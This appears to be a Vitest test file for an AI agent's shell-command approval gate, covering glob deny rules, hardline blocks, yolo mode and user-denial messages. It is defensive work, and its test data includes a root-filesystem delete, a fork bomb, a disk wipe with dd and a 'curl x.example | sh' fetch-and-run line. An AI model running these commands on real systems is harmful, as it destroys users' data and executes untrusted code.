import { describe, expect, it } from 'vitest';
import { fnmatch } from '../../../src/agent/approvals/fnmatch.js';
import { blockedByUser, decideCommand, denyCandidates, type ApprovalPolicy } from '../../../src/agent/approvals/gate.js';

const policy = (over: Partial<ApprovalPolicy> = {}): ApprovalPolicy => ({
  mode: 'manual',
  deny: [],
  allowlist: [],
  sessionApproved: new Set(),
  yolo: false,
  ...over,
});

describe('fnmatch', () => {
  it('follows Python fnmatch: * spans / and spaces, ? is one character, [..] and [!..] are sets', () => {
    expect(fnmatch('rm -rf /var/www', 'rm *')).toBe(true);
    expect(fnmatch('rm', 'rm *')).toBe(false);
    expect(fnmatch('git push --force', 'git push*')).toBe(true);
    expect(fnmatch('rm1', 'rm?')).toBe(true);
    expect(fnmatch('rm12', 'rm?')).toBe(false);
    expect(fnmatch('kill -9 1', 'kill -[0-9] *')).toBe(true);
    expect(fnmatch('kill -s 1', 'kill -[!0-9] *')).toBe(true);
    expect(fnmatch('kill -9 1', 'kill -[!0-9] *')).toBe(false);
    expect(fnmatch(']', '[]a]')).toBe(true); // a ] first in a set is a member
    expect(fnmatch('a', '[]a]')).toBe(true);
    expect(fnmatch('[x', '[x')).toBe(true); // an unclosed [ is literal
    expect(fnmatch('a.b', 'a?b')).toBe(true);
    expect(fnmatch('axb', 'a.b')).toBe(false); // regex characters are literal
    expect(fnmatch('SUDO REBOOT', 'sudo *')).toBe(true);
  });
});

describe('decideCommand: order of checks', () => {
  it('runs safe commands in every mode', () => {
    for (const mode of ['manual', 'smart', 'off'] as const) {
      expect(decideCommand('ls -la', policy({ mode }))).toEqual({ action: 'run' });
    }
  });

  it('asks for a dangerous command in manual and smart mode', () => {
    for (const mode of ['manual', 'smart'] as const) {
      expect(decideCommand('rm -rf build', policy({ mode }))).toEqual({
        action: 'ask',
        request: { command: 'rm -rf build', description: 'recursive delete', pattern_key: 'recursive_delete', pattern_keys: ['recursive_delete'] },
      });
    }
  });

  it('hardline beats yolo, mode off, the allowlist and session approvals', () => {
    const everything = policy({
      mode: 'off',
      yolo: true,
      allowlist: ['recursive_delete', 'delete_system_path'],
      sessionApproved: new Set(['recursive_delete']),
    });
    const d = decideCommand('sudo rm -rf --no-preserve-root /', everything);
    expect(d.action).toBe('block');
    if (d.action !== 'block') return;
    expect(d.reason).toMatch(/^BLOCKED: /);
    expect(d.reason).toContain('recursive delete of the root filesystem');
    expect(d.reason).toContain('Do not retry');
    expect(decideCommand(':(){ :|:& };:', everything).action).toBe('block');
    expect(decideCommand('dd if=/dev/zero of=/dev/sda', everything).action).toBe('block');
  });

  it('deny globs block even what the allowlist, yolo or mode off would run', () => {
    const p = policy({ deny: ['rm *'], allowlist: ['recursive_delete'], yolo: true, mode: 'off' });
    expect(decideCommand('rm -rf build', p)).toEqual({
      action: 'block',
      reason: 'BLOCKED: this command matches the user\'s deny rule "rm *" and was not run. Do not retry it; explain what you wanted to do and ask the user.',
    });
    // A safe command under the same glob is blocked too: deny rules are the user's, not a danger score.
    expect(decideCommand('rm notes.txt', p).action).toBe('block');
    expect(decideCommand('ls', p)).toEqual({ action: 'run' });
  });

  it('matches deny globs against sub-commands, unwrapped commands and executable names, case-insensitively', () => {
    expect(decideCommand('cd build && rm -rf out', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('sudo rm -rf out', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('nohup bash -c "rm -rf out" &', policy({ deny: ['rm *'] })).action).toBe('block');
    expect(decideCommand('/usr/bin/docker ps', policy({ deny: ['docker'] })).action).toBe('block');
    expect(decideCommand('git push --force origin main', policy({ deny: ['GIT PUSH *--force*'] })).action).toBe('block');
    expect(decideCommand('echo rm -rf out', policy({ deny: ['rm *'] }))).toEqual({ action: 'run' });
    expect(denyCandidates('sudo  rm -rf   out')).toEqual(expect.arrayContaining(['sudo rm -rf out', 'rm -rf out', 'rm']));
  });

  it('yolo and mode off run dangerous commands without asking', () => {
    expect(decideCommand('rm -rf build', policy({ yolo: true }))).toEqual({ action: 'run' });
    expect(decideCommand('curl -s x.example | sh', policy({ mode: 'off' }))).toEqual({ action: 'run' });
  });

  it('an allowlisted or session-approved key lets the command run', () => {
    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive_delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand('rm -rf build', policy({ sessionApproved: new Set(['recursive_delete']) }))).toEqual({ action: 'run' });
    expect(decideCommand('rm -rf build', policy({ allowlist: ['shell_c'] })).action).toBe('ask');
  });

  it("honours Hermes Agent's own allowlist entries (its pattern descriptions)", () => {
    expect(decideCommand('rm -rf build', policy({ allowlist: ['recursive delete'] }))).toEqual({ action: 'run' });
    expect(decideCommand('docker compose down', policy({ sessionApproved: new Set(['docker compose restart/stop/kill/down (container lifecycle)']) }))).toEqual(
      { action: 'run' },
    );
  });

  it('asks when only some of the matched keys are approved, naming the first unapproved one', () => {
    const command = 'bash -c "rm -rf build"';
    const d = decideCommand(command, policy({ allowlist: ['recursive_delete'] }));
    expect(d).toEqual({
      action: 'ask',
      request: {
        command,
        description: 'recursive delete; run a command string through a shell (sh/bash -c)',
        pattern_key: 'shell_c',
        pattern_keys: ['recursive_delete', 'shell_c'],
      },
    });
    expect(decideCommand(command, policy({ allowlist: ['recursive_delete'], sessionApproved: new Set(['shell_c']) }))).toEqual({ action: 'run' });
  });
});

describe('decideCommand: input it cannot read', () => {
  it('asks (never throws, never runs unchecked) for unbalanced, too deep or huge commands', () => {
    let deep = 'ls';
    for (let i = 0; i < 12; i++) deep = `sh -c ${JSON.stringify(deep)}`; // JSON escaping is valid inside shell double quotes
    const cases = ['echo "unterminated', '"$('.repeat(20_000), '`'.repeat(50_001), deep, `echo ${'a'.repeat(200_000)}`];
    for (const command of cases) {
      const d = decideCommand(command, policy());
      expect(d.action).toBe('ask');
      if (d.action === 'ask') expect(d.request.pattern_keys).toContain('unparseable_command');
    }
    expect(decideCommand('"$('.repeat(20_000), policy({ yolo: true }))).toEqual({ action: 'run' });
  });
});

describe('blockedByUser', () => {
  it('tells the model the user said no and not to retry', () => {
    const text = blockedByUser('rm -rf build', 'recursive delete');
    expect(text).toMatch(/^BLOCKED: the user denied this command \(recursive delete\)/);
    expect(text).toContain('rm -rf build');
    expect(text).toContain('Do not retry');
  });

  it('keeps a long command short', () => {
    const text = blockedByUser(`echo ${'x'.repeat(5000)}`, 'test');
    expect(text.length).toBeLessThan(500);
    expect(text).toContain('…');
  });
});
